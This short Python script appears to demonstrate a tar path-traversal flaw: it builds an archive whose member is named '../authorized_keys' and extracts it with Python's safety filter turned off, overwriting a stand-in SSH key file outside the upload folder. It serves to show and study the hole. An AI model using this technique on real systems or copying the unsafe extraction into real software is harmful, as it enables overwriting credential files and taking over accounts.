import io
import tarfile
from pathlib import Path


def archive(name: str, content: bytes) -> io.BytesIO:
    member = tarfile.TarInfo(name)
    member.size = len(content)
    with tarfile.open(fileobj=(packed := io.BytesIO()), mode="w") as tar:
        tar.addfile(member, io.BytesIO(content))
    packed.seek(0)
    return packed


Path("uploads").mkdir()
Path("authorized_keys").write_text("the key of ada")
sent = archive("../authorized_keys", b"the key of mallory")
with tarfile.open(fileobj=sent) as tar:
    tar.extractall("uploads", filter="fully_trusted")
print("now:", Path("authorized_keys").read_text())
